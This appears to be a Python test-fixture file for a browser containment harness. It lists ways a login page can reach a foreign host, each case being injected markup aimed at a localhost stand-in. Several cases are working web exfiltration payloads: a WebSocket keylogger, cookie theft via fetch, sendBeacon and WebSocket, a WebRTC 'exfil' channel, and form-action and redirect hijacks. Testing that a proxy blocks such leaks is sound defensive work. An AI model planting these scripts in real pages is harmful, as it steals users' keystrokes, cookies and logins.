"""Every way out of a page we know of, one case each, aimed at the foreign host.

A case is markup added to the login page (``html``), and optionally a server behaviour
(``login_redirect``: how the login POST answers; ``form_action``: where the login form posts;
``plain_list``: the statement page, fetched without a browser, redirects to the foreign host).
``F`` in the markup is the foreign origin (``http://localhost:PORT``), ``W`` its ``ws://`` form.
``/r/N/...`` is a same-host URL that redirects N more times on the allowed host, then to the
foreign host (``/r307/...`` with 307, which re-sends a POST body).

``navigates``: the main frame itself leaves for the foreign host, so the sync must fail with
``recipe_broken.host_refused`` (immediately) instead of completing.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    html: str = ""
    login_redirect: str | None = None  # "303" or "307" chains on the login POST
    form_action: str | None = None
    plain_list: bool = False
    navigates: bool = False
    reaches_proxy: bool = True
    """False where the browser, once contained, sends nothing the proxy could refuse, so there
    is no refusal to report, only zero contacts: a preconnect through a proxy is a connection
    to the proxy itself, a DNS prefetch resolves nothing, Chromium makes no speculation-rules
    prefetch through a proxy, and service workers are never registered."""


_WEBRTC = """<script>(async () => { try {
  const pc = new RTCPeerConnection({iceServers: [{urls: "stun:localhost:PORT"},
    {urls: "turn:localhost:PORT?transport=udp", username: "u", credential: "p"},
    {urls: "turn:localhost:PORT?transport=tcp", username: "u", credential: "p"}]});
  pc.createDataChannel("exfil");
  await pc.setLocalDescription(await pc.createOffer());
} catch (e) {} })();</script>"""

_KEYLOGGER = """<script>
  const ws = new WebSocket("W/keys");
  document.addEventListener("input", e => { try { ws.send(e.target.value); } catch (x) {} });
  document.addEventListener("keyup", e => { try { ws.send(e.key); } catch (x) {} });
</script>"""

_COOKIE_WS = """<script>
  const wc = new WebSocket("W/cookie?c=" + encodeURIComponent(document.cookie));
  wc.onopen = () => wc.send(document.cookie);
</script>"""

_SPECULATION = """<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["F/spec-prefetch", "/r/1/spec-prefetch-hop"],
               "requires": ["anonymous-client-ip-when-cross-origin"]},
              {"source": "list", "urls": ["/r/0/spec-prefetch-same"]}],
 "prerender": [{"source": "list", "urls": ["F/spec-prerender", "/r/1/spec-prerender-hop"]}]}
</script>"""

_SAME_HOST = """<script src="/r/0/same.js"></script>
<iframe src="/r/1/same-frame"></iframe>
<script>
  try { new EventSource("/r/0/same-events"); } catch (e) {}
  navigator.sendBeacon("/r307/0/same-beacon", "stolen=" + document.cookie);
</script>"""

_SUBRESOURCES = """<img src="F/pixel.png">
<script src="F/x.js"></script>
<link rel="stylesheet" href="F/style.css">
<style>body { background: url("F/bg.png"); }
  @font-face { font-family: leak; src: url("F/font.woff2"); } p { font-family: leak; }</style>
<p>texte</p>
<iframe src="F/frame"></iframe>
<script>
  fetch("F/fetch?c=" + document.cookie, {mode: "no-cors"}).catch(() => {});
  const x = new XMLHttpRequest(); x.open("GET", "F/xhr"); x.send();
  navigator.sendBeacon("F/beacon", "stolen=" + document.cookie);
  try { new EventSource("F/events"); } catch (e) {}
</script>
<link rel="prefetch" href="F/prefetch">
<link rel="preconnect" href="F">
<link rel="dns-prefetch" href="F">"""


def _hops(n: int) -> str:
    return f"""<img src="/r/{n}/hop-pixel.png">
<script src="/r/{n}/hop.js"></script>
<iframe src="/r/{n}/hop-frame"></iframe>
<script>
  fetch("/r/{n}/hop-fetch").catch(() => {{}});
  const xh = new XMLHttpRequest(); xh.open("GET", "/r/{n}/hop-xhr"); xh.send();
  navigator.sendBeacon("/r307/{n}/hop-beacon", "stolen=1");
  try {{ new EventSource("/r/{n}/hop-events"); }} catch (e) {{}}
</script>"""


CASES: dict[str, Case] = {c.name: c for c in [
    Case("none"),
    Case("img", '<img src="F/pixel.png">'),
    Case("script", '<script src="F/x.js"></script>'),
    Case("stylesheet", '<link rel="stylesheet" href="F/style.css">'),
    Case("css-url", '<style>body { background: url("F/bg.png"); }</style>'),
    Case("font", '<style>@font-face { font-family: leak; src: url("F/font.woff2"); } '
                 'p { font-family: leak; }</style><p>texte</p>'),
    Case("iframe", '<iframe src="F/frame"></iframe>'),
    Case("fetch", '<script>fetch("F/fetch?c=" + document.cookie, {mode: "no-cors"})'
                  '.catch(() => {});</script>'),
    Case("xhr", '<script>const x = new XMLHttpRequest(); x.open("GET", "F/xhr"); x.send();'
                '</script>'),
    Case("beacon", '<script>navigator.sendBeacon("F/beacon", "stolen=" + document.cookie);'
                   '</script>'),
    Case("eventsource", '<script>try { new EventSource("F/events"); } catch (e) {}</script>'),
    Case("link-prefetch", '<link rel="prefetch" href="F/prefetch">'),
    Case("link-preconnect", '<link rel="preconnect" href="F">'
                            '<link rel="preconnect" href="F" crossorigin>', reaches_proxy=False),
    Case("link-dns-prefetch", '<link rel="dns-prefetch" href="F">', reaches_proxy=False),
    Case("speculation", _SPECULATION, reaches_proxy=False),
    Case("ws-keys", _KEYLOGGER),
    Case("ws-cookie", _COOKIE_WS),
    Case("webrtc", _WEBRTC),  # no UDP at all; TURN over TCP is a tunnel the proxy refuses
    Case("same-host-redirects", _SAME_HOST),
    Case("window-open", '<script>window.open("F/popup", "_blank");</script>'),
    Case("service-worker", '<script>navigator.serviceWorker && navigator.serviceWorker'
                           '.register("/sw.js").catch(() => {});</script>', reaches_proxy=False),
    Case("hops-1", _hops(1)),
    Case("hops-2", _hops(2)),
    Case("hops-3", _hops(3)),
    Case("redirect-303", login_redirect="303", navigates=True),
    Case("redirect-307", login_redirect="307", navigates=True),
    Case("form-action", form_action="F/collect", navigates=True),
    Case("meta-refresh", '<meta http-equiv="refresh" content="0;url=F/refresh">',
         navigates=True),
    Case("location", '<script>setTimeout(() => { location.href = "F/location"; }, 20);'
                     '</script>', navigates=True),
    Case("location-hops-3", '<script>setTimeout(() => { location.href = "/r/3/loc"; }, 20);'
                            '</script>', navigates=True),
    Case("plain-http-list", plain_list=True),
    Case("everything", "\n".join([_SUBRESOURCES, _SPECULATION, _KEYLOGGER, _COOKIE_WS,
                                  _WEBRTC, _SAME_HOST, _hops(2),
                                  '<script>window.open("F/popup", "_blank");</script>'])),
]}


def render(case: Case, foreign: str) -> str:
    """The case's markup aimed at ``foreign`` (``http://localhost:PORT``)."""
    port = foreign.rsplit(":", 1)[1]
    return (case.html.replace("W/", "ws" + foreign[4:] + "/").replace("F/", foreign + "/")
            .replace('"F"', f'"{foreign}"').replace("PORT", port))


__all__ = ["CASES", "Case", "render"]
